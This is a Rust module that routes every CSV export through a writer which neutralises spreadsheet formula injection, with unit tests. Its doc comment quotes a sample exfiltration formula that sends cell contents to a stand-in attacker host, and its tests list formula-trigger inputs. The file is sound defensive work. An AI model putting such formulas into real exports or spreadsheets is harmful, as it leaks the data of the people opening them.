//! The one CSV writer every export goes through, so no export can hand a spreadsheet a formula.
//!
//! Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab
//! or carriage return first) as a formula: a hostile expense description such as
//! `=HYPERLINK("http://evil.example/?"&A1)` would run on the CTO's machine. Such cells get a
//! leading apostrophe, as OWASP advises; a plain number (`-12.50`) is left alone so numeric
//! columns stay numeric.

use std::borrow::Cow;

/// Reads the next line of an uploaded file that is not blank into `record`: its line number,
/// or where it cannot be read as CSV and what to tell the person who sent it. `None` at the end.
#[cfg(feature = "ssr")]
pub fn next_row<R: std::io::Read>(reader: &mut ::csv::Reader<R>, record: &mut ::csv::StringRecord) -> Option<Result<u64, (u64, String)>> {
    loop {
        let before = reader.position().line();
        match reader.read_record(record) {
            Ok(false) => return None,
            Ok(true) if record.iter().all(|f| f.trim().is_empty()) => continue,
            Ok(true) => return Some(Ok(record.position().map_or(before, |p| p.line()))),
            Err(e) => {
                let line = e.position().map_or(before, |p| p.line());
                let message = match e.kind() {
                    ::csv::ErrorKind::Utf8 { .. } => "The line is not valid UTF-8; save the file as UTF-8.".to_string(),
                    _ => format!("The line cannot be read as CSV: {e}."),
                };
                return Some(Err((line, message)));
            }
        }
    }
}

/// Characters that make a spreadsheet read a cell as a formula, including the full-width forms
/// some programs fold into them.
const TRIGGERS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];

/// `cell` as it may safely stand in a CSV file.
pub fn guard(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `-12`, `-12.5`: what a numeric column holds. Anything else starting with `-` is text.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty() && !frac.is_empty() && whole.bytes().all(|b| b.is_ascii_digit()) && frac.bytes().all(|b| b.is_ascii_digit())
}

/// Rows in, bytes out; every cell guarded and quoted as RFC 4180 needs.
pub struct CsvWriter {
    out: csv::Writer<Vec<u8>>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvWriter {
    pub fn new() -> CsvWriter {
        CsvWriter { out: Self::writer() }
    }

    fn writer() -> csv::Writer<Vec<u8>> {
        csv::WriterBuilder::new().flexible(false).from_writer(Vec::new())
    }

    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let guarded: Vec<String> = cells.into_iter().map(|c| guard(c.as_ref()).into_owned()).collect();
        // Writing to a Vec cannot fail; a row of another width is a programming error that
        // the export tests catch.
        if let Err(e) = self.out.write_record(&guarded) {
            tracing::error!(error = %e, "a CSV row could not be written");
        }
    }

    /// The bytes written so far, leaving the writer empty: for exports streamed page by page.
    pub fn take(&mut self) -> Vec<u8> {
        std::mem::replace(&mut self.out, Self::writer()).into_inner().unwrap_or_default()
    }

    pub fn finish(mut self) -> Vec<u8> {
        self.take()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_triggers_are_neutralised() {
        for hostile in ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x\")", "－1", "＝1"] {
            let safe = guard(hostile);
            assert!(safe.starts_with('\''), "{hostile:?} -> {safe:?}");
        }
    }

    #[test]
    fn numbers_and_plain_text_are_unchanged() {
        for cell in ["-12", "-12.50", "0.5", "12", "Acme Cloud", "", "a=b", "'quoted"] {
            assert_eq!(guard(cell), cell);
        }
        for not_a_number in ["-", "-.5", "-1.", "-1e5", "- 1"] {
            assert!(guard(not_a_number).starts_with('\''), "{not_a_number:?}");
        }
    }

    #[test]
    fn rows_are_quoted_and_streamable() {
        let mut w = CsvWriter::new();
        w.row(["a,b", "say \"hi\"", "=cmd"]);
        assert_eq!(String::from_utf8(w.take()).unwrap(), "\"a,b\",\"say \"\"hi\"\"\",'=cmd\n");
        w.row(["x", "-3.5", "line\nbreak"]);
        assert_eq!(String::from_utf8(w.finish()).unwrap(), "x,-3.5,\"line\nbreak\"\n");
    }
}
